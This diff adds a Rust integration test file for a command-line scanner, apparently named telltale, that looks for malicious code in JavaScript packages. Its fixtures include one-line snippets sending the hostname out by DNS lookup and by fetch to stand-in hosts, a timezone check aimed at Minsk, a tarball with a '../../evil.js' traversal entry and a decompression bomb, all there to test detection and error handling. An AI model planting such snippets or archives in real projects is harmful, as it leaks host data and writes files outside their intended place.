@@ -1,0 +1,108 @@
+//! The command line: exit codes, formats, and hostile input through the whole pipeline.
+
+use std::io::Write;
+use std::process::Command;
+
+fn telltale() -> Command {
+    Command::new(env!("CARGO_BIN_EXE_telltale"))
+}
+
+fn write(dir: &std::path::Path, name: &str, body: &[u8]) {
+    let p = dir.join(name);
+    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+    std::fs::write(p, body).unwrap();
+}
+
+#[test]
+fn exit_codes_follow_fail_on() {
+    let dir = tempfile::tempdir().unwrap();
+    write(dir.path(), "index.js", b"const os = require('os'); require('dns').lookup(os.hostname() + '.x.top', () => {});");
+    let high = telltale().args(["scan"]).arg(dir.path()).output().unwrap();
+    assert_eq!(high.status.code(), Some(1), "{}", String::from_utf8_lossy(&high.stdout));
+    let crit = telltale().args(["scan", "--fail-on", "critical"]).arg(dir.path()).output().unwrap();
+    assert_eq!(crit.status.code(), Some(0));
+    let usage = telltale().args(["scan", "--format", "yaml", "x"]).output().unwrap();
+    assert_eq!(usage.status.code(), Some(2));
+    let missing = telltale().args(["scan", "/nonexistent/telltale/x"]).output().unwrap();
+    assert_eq!(missing.status.code(), Some(2));
+}
+
+#[test]
+fn json_findings_have_the_contract_fields() {
+    let dir = tempfile::tempdir().unwrap();
+    write(dir.path(), "a.js", b"if (Intl.DateTimeFormat().resolvedOptions().timeZone === 'Europe/Minsk') { console.log('hi'); }");
+    let out = telltale().args(["scan", "--format", "json"]).arg(dir.path()).output().unwrap();
+    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(doc["schema_version"], 1);
+    let f = &doc["targets"][0]["findings"][0];
+    for key in ["rule", "name", "category", "severity", "file", "line", "column", "offset", "message", "evidence", "countries", "endpoints"] {
+        assert!(f.get(key).is_some(), "missing {key} in {f}");
+    }
+    assert_eq!(f["countries"][0], "BY");
+    assert_eq!(f["line"], 1);
+}
+
+#[test]
+fn hostile_inputs_give_errors_not_panics() {
+    let dir = tempfile::tempdir().unwrap();
+    // Truncated gzip.
+    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+    gz.write_all(&vec![b'a'; 100_000]).unwrap();
+    let bytes = gz.finish().unwrap();
+    write(dir.path(), "trunc.tgz", &bytes[..bytes.len() / 2]);
+    let out = telltale().args(["scan"]).arg(dir.path().join("trunc.tgz")).output().unwrap();
+    assert_eq!(out.status.code(), Some(2), "{}", String::from_utf8_lossy(&out.stderr));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("error"));
+
+    // Path traversal inside a tarball: the entry name is written into the header by hand.
+    let mut header = tar::Header::new_gnu();
+    let name = b"../../evil.js";
+    header.as_old_mut().name[..name.len()].copy_from_slice(name);
+    header.set_size(3);
+    header.set_mode(0o644);
+    header.set_cksum();
+    let mut builder = tar::Builder::new(Vec::new());
+    builder.append(&header, &b"x=1"[..]).unwrap();
+    write(dir.path(), "evil.tar", &builder.into_inner().unwrap());
+    let out = telltale().args(["scan", "--format", "json"]).arg(dir.path().join("evil.tar")).arg(dir.path().join("trunc.tgz")).output().unwrap();
+    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert!(doc["targets"][0]["error"].as_str().unwrap().contains("escapes"), "{doc}");
+    assert!(!dir.path().parent().unwrap().join("evil.js").exists());
+
+    // A bomb against a low limit.
+    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
+    gz.write_all(&vec![0u8; 20 << 20]).unwrap();
+    write(dir.path(), "bomb.tgz", &gz.finish().unwrap());
+    let out = telltale().args(["scan", "--max-archive-bytes", "1000000"]).arg(dir.path().join("bomb.tgz")).output().unwrap();
+    assert_eq!(out.status.code(), Some(2));
+}
+
+#[test]
+fn odd_files_are_survived() {
+    let dir = tempfile::tempdir().unwrap();
+    write(dir.path(), "empty.js", b"");
+    write(dir.path(), "binary.js", &[0u8, 159, 146, 150, 0, 1, 2]);
+    write(dir.path(), "invalid_utf8.js", b"var a = '\xff\xfe'; require('os').hostname();");
+    write(dir.path(), "broken.js", b"function ( { [[[ ");
+    let deep = format!("var x = {}1{};", "[".repeat(10_000), "]".repeat(10_000));
+    write(dir.path(), "deep.js", deep.as_bytes());
+    let mut big = b"var s = \"".to_vec();
+    big.extend(std::iter::repeat_n(b'a', 50 << 20));
+    big.extend(b"\"; fetch('https://x.example/?h=' + require('os').hostname());");
+    write(dir.path(), "big.min.js", &big);
+    let out = telltale().args(["scan", "--format", "json"]).arg(dir.path()).output().unwrap();
+    assert!(out.status.code() == Some(0) || out.status.code() == Some(1), "{}", String::from_utf8_lossy(&out.stderr));
+    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let findings = doc["targets"][0]["findings"].as_array().unwrap();
+    let big_flow = findings.iter().find(|f| f["file"] == "big.min.js" && f["category"] == "exfiltration").expect("flow in the 50 MB file");
+    assert!(big_flow["snippet"].as_str().unwrap().len() < 200, "snippet is a window, not the line");
+}
+
+#[test]
+fn rules_and_explain() {
+    let out = telltale().arg("rules").output().unwrap();
+    assert!(String::from_utf8_lossy(&out.stdout).contains("TT201"));
+    let out = telltale().args(["explain", "TT201"]).output().unwrap();
+    assert!(String::from_utf8_lossy(&out.stdout).contains("Why it matters"));
+    assert_eq!(telltale().args(["explain", "TT999"]).output().unwrap().status.code(), Some(2));
+}
